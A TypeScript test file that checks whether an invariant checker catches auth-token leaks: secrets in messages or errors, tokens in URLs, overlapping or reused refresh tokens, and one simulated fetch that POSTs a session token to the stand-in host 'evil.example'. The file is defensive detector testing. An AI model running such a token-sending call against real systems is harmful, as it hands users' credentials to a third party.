/** The check after every test is worth something only if it finds what it looks for. */
import { expect, test } from 'vitest';
import { brokenInvariants } from './invariants.js';
import { json, signIn } from './testing.js';
import { World } from './world.js';

async function signedIn(): Promise<{ readonly world: World; readonly secret: string; readonly refreshToken: string }> {
  const world = new World();
  await signIn(world.startWorker());
  const [refreshToken = '', secret = ''] = world.server.mint.secrets;
  return { world, secret, refreshToken };
}

test('a world in which nothing went wrong keeps them all', async () => {
  const { world } = await signedIn();
  expect(brokenInvariants(world)).toEqual([]);
});

test('a token in a response, a message or an error is found', async () => {
  const { world, secret, refreshToken } = await signedIn();
  world.pageSaw('a message', JSON.stringify({ deep: [{ token: `x${secret}y` }] }));
  world.pageSaw('a reported error', `Error: refused ${refreshToken}`);
  expect(brokenInvariants(world)).toEqual([`a message holds ${secret}`, `a reported error holds ${refreshToken}`]);
});

test('a token at a server that did not issue it is found, and one in a URL', async () => {
  const { world, secret } = await signedIn();
  world.addBackend('https://evil.example');
  await world.network.fetch(new Request('https://evil.example/', { method: 'POST', body: `token=${secret}` }), 'page');
  await world.network.fetch(new Request(`https://app.example/api/orders?token=${secret}`), 'page');
  expect(brokenInvariants(world)).toHaveLength(2);
});

test('two refresh requests at once and a refresh token that comes back are found', async () => {
  const { world, refreshToken } = await signedIn();
  const refresh = (): Promise<Response> =>
    world.network.fetch(new Request('https://app.example/api/auth/refresh', json({ refreshToken })), 'page');
  await refresh();
  await refresh();
  expect(brokenInvariants(world)).toHaveLength(1);
  const gate = world.server.hold('/auth/refresh');
  const both = [refresh(), refresh()];
  await world.until(() => gate.waiting === 2, 'both requests');
  gate.open();
  await Promise.all(both);
  expect(brokenInvariants(world)).toHaveLength(2);
  expect(brokenInvariants(world, ['overlapping-refreshes', 'repeated-refresh-token'])).toEqual([]);
});
